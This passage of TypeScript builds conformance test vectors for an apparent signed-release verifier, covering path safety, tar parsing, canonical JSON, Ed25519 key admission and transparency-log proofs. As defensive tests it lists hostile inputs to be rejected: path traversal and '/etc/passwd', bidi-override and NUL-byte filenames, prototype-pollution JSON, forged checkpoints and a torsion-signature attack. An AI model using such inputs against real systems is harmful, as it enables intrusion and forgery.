  const one = (path: string, expect: Expect, why: string) => cases.push({ id: `path-${cases.length + 1}`, description: why, op: 'checkPath', path, expect });
  const set = (paths: string[], expect: Expect, why: string) =>
    cases.push({ id: `path-${cases.length + 1}`, description: why, op: 'checkPathSet', paths, expect });
  const unsafe = ['UNSAFE_PATH'];
  for (const [why, path] of [
    ['empty', ''],
    ['absolute', '/etc/passwd'],
    ['trailing slash', 'core/lib/'],
    ["'..' segment", '../x'],
    ["'..' inside", 'core/../x'],
    ["'.' segment", './x'],
    ['empty segment', 'core//x.php'],
    ['backslash', 'core\\x.php'],
    ['NUL', 'core/x.php\0.txt'],
    ['newline', 'core/x\n.php'],
    ['tab', 'core/x\t.php'],
    ['DEL', 'core/x\u007f.php'],
    ['C1 control', 'core/x\u0085.php'],
    ['bidi override', 'core/evil\u202ephp.txt'],
    ['non-NFC e + combining acute', 'core/cafe\u0301.php'],
    ['non-NFC Hangul jamo', 'core/\u1100\u1161.php'],
    ['over 255 bytes', ('a'.repeat(99) + '/').repeat(2) + 'b'.repeat(57)],
    ['last segment over 100 bytes', 'core/' + 'x'.repeat(101)],
    ['no split leaving a prefix of at most 155 bytes', 'p'.repeat(160) + '/x.php'],
    ['a zero-width space (HFS+ ignores it)', 'core/Dru\u200bpal.php'],
    ['a trailing dot (Windows drops it)', 'index.php.'],
    ['a trailing space (Windows drops it)', 'core/lib /x.php'],
    ['an alternate data stream', 'index.php::$DATA'],
    ['a Windows device name', 'core/aux.php'],
    ['a Windows device name, any case', 'CON'],
  ] as const)
    one(path, unsafe, why);
  const long = `${'d'.repeat(60)}/${'e'.repeat(60)}/${'f'.repeat(40)}/${'g'.repeat(33)}.php`;
  for (const [why, path] of [
    ['a plain file', 'index.php'],
    ['nested file', 'core/lib/Drupal.php'],
    ['a dot file', '.htaccess'],
    ['dots inside names', 'core/..x/a..b/.c'],
    ['spaces and punctuation', 'sites/default/files/a b (1) #2.txt'],
    ['NFC unicode', 'modules/café/naïve-日本語-😀.php'],
    ['precomposed Hangul', 'core/\uac00.php'],
    ['a 200-byte path needing the prefix split', long],
    ['exactly 100 bytes, no prefix', 'a/' + 'b'.repeat(98)],
    ['255 bytes: 155 prefix + / + 99 name', 'p'.repeat(155) + '/' + 'n'.repeat(99)],
  ] as const)
    one(path, 'ok', why);
  set(['a.php', 'b.php', 'core/a.php', 'core/lib/a.php', long], 'ok', 'distinct paths');
  set(['a.php', 'a.php'], unsafe, 'the same path twice');
  set(['A.php', 'a.php'], unsafe, 'a case-fold duplicate');
  set(['Core/a.php', 'core/a.php'], unsafe, 'a case-fold duplicate in a directory component');
  set(['ſ.php', 's.php'], unsafe, 'long s and s meet through upper case');
  set(['ας.php', 'ασ.php'], unsafe, 'final sigma and sigma');
  set(['\ufb01le.php', 'file.php'], unsafe, 'the fi ligature and fi');
  set(['a', 'a/b'], unsafe, 'a file that is also a directory');
  set(['a/b/c.php', 'a/b'], unsafe, 'a file that is also a directory, the other order');
  set(['A/b.php', 'a'], unsafe, 'a file that is also a directory, across case');
  set(['a/b.php', 'ab', 'a-b/c', 'a.b'], 'ok', 'prefixes that are not directories');
  set(['ok.php', '../x'], unsafe, 'each path is checked too');
  return { family: 'path', description: 'checkPath on one path and checkPathSet on the paths of one archive: ok or UNSAFE_PATH', cases };
}

// ---------------------------------------------------------------------------------------------
// Tar (lib/tar.ts TarReader)

function tarFamily(): Family {
  const slug = (what: string) =>
    what
      .toLowerCase()
      .replace(/[^a-z0-9]+/g, '-')
      .replace(/^-|-$/g, '');
  const cases: Case[] = [
    {
      id: 'tar-baseline',
      description: "one entry, 'ok.php' holding 'abc'",
      op: 'readTar',
      archive: b64(GOOD_TAR),
      expect: 'ok',
      result: [{ path: 'ok.php', mode: '0644', size: 3, sha256: createHash('sha256').update('abc').digest('hex') }],
    },
  ];
  for (const [what, bytes, code] of hostileTarCases())
    cases.push({ id: `tar-${slug(what)}`, description: what, op: 'readTar', archive: b64(bytes), expect: [code] });
  const three = archive(header({ path: 'a' }), header({ path: 'b' }), header({ path: 'c' }));
  cases.push({ id: 'tar-max-entries-met', description: 'three entries, maxEntries 3', op: 'readTar', archive: b64(three), maxEntries: 3, expect: 'ok' });
  cases.push({
    id: 'tar-max-entries-exceeded',
    description: 'three entries, maxEntries 2',
    op: 'readTar',
    archive: b64(three),
    maxEntries: 2,
    expect: ['SIZE_LIMIT'],
  });
  return { family: 'tar', description: 'TarReader over a whole archive (base64): ok with the entries read, or the code it refuses the archive with', cases };
}

// ---------------------------------------------------------------------------------------------
// Canonical JSON (lib/canonical.ts, RFC 8785)

function canonicalFamily(): Family {
  const cases: Case[] = [];
  const jcs = new URL('../vectors/jcs/', import.meta.url);
  for (const name of readdirSync(new URL('input/', jcs)).sort()) {
    const input = readFileSync(new URL(`input/${name}`, jcs));
    const output = readFileSync(new URL(`output/${name}`, jcs));
    const base = name.replace(/\.json$/, '');
    cases.push({
      id: `canonical-rfc8785-${base}`,
      description: `RFC 8785 test vector ${name}: canonicalize the parsed input`,
      op: 'canonicalize',
      input: b64(input),
      expect: 'ok',
      result: b64(output),
    });
    cases.push({
      id: `canonical-rfc8785-${base}-output`,
      description: `the canonical form of ${name} parses as canonical`,
      op: 'parseCanonical',
      input: b64(output),
      expect: 'ok',
    });
    if (!input.equals(output))
      cases.push({
        id: `canonical-rfc8785-${base}-input`,
        description: `the non-canonical input of ${name} is refused`,
        op: 'parseCanonical',
        input: b64(input),
        expect: ['NOT_CANONICAL'],
      });
  }
  const parse = (text: string | Uint8Array, expect: Expect, why: string) =>
    cases.push({
      id: `canonical-parse-${cases.length + 1}`,
      description: why,
      op: 'parseCanonical',
      input: b64(typeof text === 'string' ? utf8(text) : text),
      expect,
    });
  parse('{"a":1,"b":[true,"x"]}', 'ok', 'canonical bytes');
  parse('"\\u001f"', 'ok', 'a control character escaped as RFC 8785 says');
  parse('{"__proto__":{"x":1},"a":2}', 'ok', 'a member named __proto__ is data');
  const not = ['NOT_CANONICAL'];
  for (const [text, why] of [
    ['{"a":1,"a":2}', 'duplicate members'],
    ['{"a":1,"a":1}', 'duplicate members with one value'],
    ['{"a": 1}', 'whitespace'],
    ['{"a":1}\n', 'a trailing newline'],
    [' {"a":1}', 'leading whitespace'],
    ['{"a":1.0}', 'another number spelling (1.0)'],
    ['[1E2]', 'an exponent'],
    ['[-0]', 'minus zero'],
    ['[12345678901234567890]', 'an integer beyond double precision'],
    ['{"a":"\\u0041"}', 'a needless escape'],
    ['["\\/"]', 'an escaped solidus'],
    ['["\\u001F"]', 'an upper-case hex escape'],
    ['{"b":1,"a":2}', 'unsorted members'],
    ['{"a":{"d":1,"c":2}}', 'unsorted nested members'],
  ] as const)
    parse(text, not, why);
  parse(new Uint8Array([0xef, 0xbb, 0xbf, ...utf8('{"a":1}')]), ['MALFORMED'], 'a byte order mark');
  parse('{"a":1', ['MALFORMED'], 'not JSON');
  parse(new Uint8Array([0x22, 0xc3, 0x28, 0x22]), ['MALFORMED'], 'not UTF-8');
  const strict = (text: string, expect: Expect, why: string) =>
    cases.push({ id: `strict-json-${cases.length + 1}`, description: why, op: 'parseStrictJson', input: b64(utf8(text)), expect });
  strict('{"a":[1,{"b":null}],"c":"\\u00e9"}', 'ok', 'plain JSON (envelopes need not be canonical)');
  strict('{"__proto__":{"polluted":true}}', 'ok', 'a member named __proto__ is data');
  strict('{"payload":"fake","payload":"real"}', ['MALFORMED'], 'a duplicate member (JSON.parse would keep the last)');
  strict('{"a":[{"k":1,"k":2}]}', ['MALFORMED'], 'a duplicate member, nested');
  strict('{"\\u0061":1,"a":2}', ['MALFORMED'], 'a duplicate member spelled with an escape');
  for (const [text, why] of [
    ['"\\x41"', 'an unknown escape'],
    ['"\\u12"', 'a short unicode escape'],
    ['"\\', 'an unterminated string'],
    ['{"a":1,}', 'a trailing comma in an object'],
    ['[1,]', 'a trailing comma in an array'],
    ['{"a":1} x', 'garbage after the value'],
    ['"a\nb"', 'a raw control character in a string'],
    ['\ufeff{}', 'a byte order mark'],
    ['['.repeat(100) + ']'.repeat(100), 'nesting 100 deep'],
    ['01', 'a leading zero'],
    ['NaN', 'NaN'],
    ["{'a':1}", 'single quotes'],
  ] as const)
    strict(text, ['MALFORMED'], why);
  return {
    family: 'canonical-json',
    description:
      'canonicalize (the RFC 8785 bytes of a parsed JSON text), parseCanonical (bytes that must already be canonical: ok, NOT_CANONICAL or MALFORMED) and parseStrictJson (the envelope parser: ok or MALFORMED)',
    cases,
  };
}

// ---------------------------------------------------------------------------------------------
// Ed25519 (lib/ed25519.ts): strict verification and key admission

function ed25519Family(): Family {
  const cases: Case[] = [];
  const speccheck = JSON.parse(readFileSync(new URL('../vectors/ed25519/speccheck_cases.json', import.meta.url), 'utf8')) as Array<{
    message: string;
    pub_key: string;
    signature: string;
  }>;
  speccheck.forEach((c, i) =>
    cases.push({
      id: `ed25519-speccheck-${i}`,
      description: `speccheck case ${i} (only case 3 verifies)`,
      op: 'verifyStrict',
      publicKey: c.pub_key,
      message: c.message,
      signature: c.signature,
      expect: 'ok',
      result: i === 3,
    }),
  );
  const admit = (key: Uint8Array, result: boolean, why: string) =>
    cases.push({ id: `ed25519-key-${cases.length + 1}`, description: why, op: 'isStrongPublicKey', publicKey: hex(key), expect: 'ok', result });
  const fromHex = (h: string) => new Uint8Array(Buffer.from(h, 'hex'));
  const PUB = fromHex('d75a980182b10ab7d54bfed3c964073a0ee172f3daa62325af021a68f707511a');
  admit(PUB, true, 'an ordinary key (RFC 8032 test 1)');
  admit(Point.BASE.toBytes(), true, 'the base point');
  for (let k = 0, p = Point.ZERO; k < 8; k++, p = p.add(T8)) admit(p.toBytes(), false, `the small-order point [${k}]T8`);
  for (const h of [
    '0100000000000000000000000000000000000000000000000000000000000080',
    'ecffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff',
    'edffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f',
    'edffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff',
    'eeffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f',
    'eeffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff',
  ])
    admit(fromHex(h), false, 'a non-canonical encoding of a small-order point');
  admit(fromHex('f1ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f'), false, 'y = p + 4: a non-canonical spelling');
  admit(fromHex('0200000000000000000000000000000000000000000000000000000000000000'), false, 'y = 2: not a curve point');
  admit(PUB.subarray(0, 31), false, '31 bytes');
  admit(new Uint8Array([...PUB, 0]), false, '33 bytes');
  admit(new Uint8Array(0), false, 'empty');
  for (let k = 1, T = T8; k < 8; k++, T = T.add(T8)) admit(Point.fromBytes(PUB).add(T).toBytes(), false, `the mixed-order key A + [${k}]T8`);
  // The torsion attack: a signature for A + T made with A's secret verifies, so admission must refuse the key.
  const seed = new Uint8Array(createHash('sha256').update('countersign attack fixture signer 0').digest());
  const message = utf8('one secret, two keys');
  for (const j of [1, 2, 4]) {
    const key = mixedOrderKey(seed, j);
    const signature = signForMixedOrderKey(message, seed, j, deterministicNonce(`countersign conformance torsion ${j}`));
    cases.push({
      id: `ed25519-torsion-${j}-signature`,
      description: `a signature for A + [${j}]T8 made with A's secret verifies (libsodium agrees)`,
      op: 'verifyStrict',
      publicKey: hex(key),
      message: hex(message),
      signature: hex(signature),
      expect: 'ok',
      result: true,
    });
    cases.push({
      id: `ed25519-torsion-${j}-key`,
      description: `the key A + [${j}]T8 is not admitted`,
      op: 'isStrongPublicKey',
      publicKey: hex(key),
      expect: 'ok',
      result: false,
    });
  }
  return {
    family: 'ed25519',
    description: 'verifyStrict (hex key, message, signature → true or false) and isStrongPublicKey (hex key → admitted or not)',
    cases,
  };
}

// ---------------------------------------------------------------------------------------------
// The transparency log: a document's offline proof (C2SP tlog-proof) under a C2SP tlog-policy (spec/log.md)

function logFamily(files: Map<string, Uint8Array>): Family {
  const f = fixtures();
  const file = (name: string, bytes: Uint8Array | string) => {
    files.set(`log/${name}`, typeof bytes === 'string' ? utf8(bytes) : bytes);
    return `log/${name}`;
  };
  // Deterministic keys: the log from the seed 32 x 0x01 (LOG.md's worked example), witnesses W1..W3 from 0x10..0x12.
  const log = new MemoryLog();
  const envA = envelopeBytes(f.releaseA.envelope);
  const envB = envelopeBytes(f.releaseB.envelope);
  log.append(entryForEnvelope(f.policyV1.bytes));
  const index = log.append(entryForEnvelope(envA));
  log.append(entryForEnvelope(envB));
  const T = Math.floor(FIXTURE_NOW.getTime() / 1000) - 3600;
  const now = iso(FIXTURE_NOW);
  const cp = log.checkpoint(T);
  const policy = file('log.policy', log.policy(2));
  const envelope = file('release-a.envelope.json', envA);
  const cases: Case[] = [];
  const add = (id: string, description: string, input: Record<string, unknown>, expect: Expect, result?: unknown) =>
    cases.push({ id, description, op: 'verifyLogProof', expect, envelope, logPolicy: policy, now, ...input, ...(result === undefined ? {} : { result }) });
  const proofFile = (name: string, text: string) => file(`${name}.tlog-proof`, text);

  add(
    'logged',
    'release A at index 1 of a size-3 log, cosigned by W1, W2, W3 (quorum 2 of 3), entry in the extra line',
    { proof: proofFile('logged', log.proof(index, cp)) },
    'ok',
    {
      index,
      witnesses: ['W1', 'W2', 'W3'],
      consistency: 'first',
    },
  );
  add(
    'logged-no-extra',
    'the same proof without the extra line: the entry is rebuilt from the envelope',
    { proof: proofFile('no-extra', log.proof(index, cp, false)) },
    'ok',
    {
      index,
      witnesses: ['W1', 'W2', 'W3'],
      consistency: 'first',
    },
  );
  add('not-logged', 'no proof at all under a log policy', {}, ['NOT_LOGGED']);
  add('other-entry', 'a proof for release B (its entry in the extra line)', { proof: proofFile('other-entry', log.proof(2, cp)) }, ['LOG_ENTRY_MISMATCH']);
  add(
    'other-index',
    "release B's inclusion proof without extra: the leaf of A does not verify at index 2",
    { proof: proofFile('other-index', log.proof(2, cp, false)) },
    ['BAD_PROOF'],
  );
  add(
    'other-origin',
    'a checkpoint for another origin signed by the same key',
    { proof: proofFile('other-origin', log.proof(index, log.checkpoint(T, 3, 'other.example/log'))) },
    ['BAD_CHECKPOINT'],
  );
  const text = parseNote(cp).text;
  const forged = parseNote(signNote(text, [ed25519Signer(log.signer.name, new Uint8Array(32).fill(9))]));
  const otherKey = formatNote({ text, signatures: [...forged.signatures, ...parseNote(cp).signatures.slice(1)] });
  add(
    'other-key',
    'the checkpoint signed by another key under the log name (the cosignatures kept)',
    { proof: proofFile('other-key', log.proof(index, otherKey)) },
    ['BAD_NOTE'],
  );
  add('quorum-short', 'one cosignature where the quorum is 2 of 3', { proof: proofFile('quorum-short', log.proof(index, log.checkpoint(T, 1))) }, [
    'WITNESS_QUORUM_NOT_MET',
  ]);
  add('future', 'cosignatures dated an hour ahead of now are not counted', { proof: proofFile('future', log.proof(index, log.checkpoint(T + 7200))) }, [
    'WITNESS_QUORUM_NOT_MET',
  ]);
  add('stale', 'cosignatures older than maxAgeSeconds', { proof: proofFile('logged', log.proof(index, cp)), maxAgeSeconds: 1800 }, ['CHECKPOINT_STALE']);
  const bad = cp.replace(/(\u2014 witness\.example\/w2 .{40})(.)/u, (_m, a: string, c: string) => a + (c === 'A' ? 'B' : 'A'));
  add(
    'bad-cosignature',
    "W2's cosignature does not verify (a known key's bad signature rejects the checkpoint)",
    { proof: proofFile('bad-cosignature', log.proof(index, bad)) },
    ['BAD_NOTE'],
  );

  // Against the largest checkpoint the verifier holds.
  const grown = new MemoryLog();
  for (const e of log.entries) grown.append(e);
  grown.append(utf8('a later entry'));
  const cp4 = grown.checkpoint(T);
  const fork = new MemoryLog();
  for (const e of log.entries) fork.append(e);
  fork.append(utf8('another fourth entry'));
  const forkCp = fork.checkpoint(T);
  const seen = (name: string, note: string) => file(`${name}.checkpoint`, note);
  add('same-as-seen', 'the checkpoint is the largest seen', { proof: proofFile('logged', log.proof(index, cp)), largestSeen: seen('size-3', cp) }, 'ok', {
    index,
    witnesses: ['W1', 'W2', 'W3'],
    consistency: 'same',
  });
  add(
    'consistent',
    'a size-4 checkpoint with a consistency proof from the size-3 one seen',
    { proof: proofFile('size-4', grown.proof(index, cp4)), largestSeen: seen('size-3', cp), consistency: grown.consistency(3).map(b64) },
    'ok',
    { index, witnesses: ['W1', 'W2', 'W3'], consistency: 'proved' },
  );
  add(
    'unchecked',
    'a size-4 checkpoint and no consistency proof (offline)',
    { proof: proofFile('size-4', grown.proof(index, cp4)), largestSeen: seen('size-3', cp) },
    'ok',
    {
      index,
      witnesses: ['W1', 'W2', 'W3'],
      consistency: 'unchecked',
    },
  );
  add('rollback', 'the size-3 checkpoint after a size-4 one was seen', { proof: proofFile('logged', log.proof(index, cp)), largestSeen: seen('size-4', cp4) }, [
    'LOG_INCONSISTENT',
  ]);
  add('fork-same-size', 'another size-4 tree than the one seen', { proof: proofFile('fork-4', fork.proof(index, forkCp)), largestSeen: seen('size-4', cp4) }, [
    'LOG_INCONSISTENT',
  ]);
  const five = new MemoryLog();
  for (const e of grown.entries) five.append(e);
  five.append(utf8('fifth'));
  add(
    'fork-inconsistent',
    'a size-5 tree whose consistency proof does not lead from the size-4 fork seen',
    { proof: proofFile('size-5', five.proof(index, five.checkpoint(T))), largestSeen: seen('fork-4', forkCp), consistency: five.consistency(4).map(b64) },
    ['LOG_INCONSISTENT'],
  );

  return {
    family: 'log',
    description:
      'verifyLogProof: a document (envelope) and its C2SP tlog-proof under a C2SP tlog-policy at a reference time, optionally against the largest checkpoint held and a consistency proof to it (spec/log.md)',
    cases,
  };
}

/** Every family, and the files the bundle and log families refer to. */
export function vectorSet(): VectorSet {
  const files = new Map<string, Uint8Array>();
  const families = [bundleFamily(files), versionFamily(), pathFamily(), tarFamily(), canonicalFamily(), ed25519Family(), logFamily(files)];
  return { families, files };
}
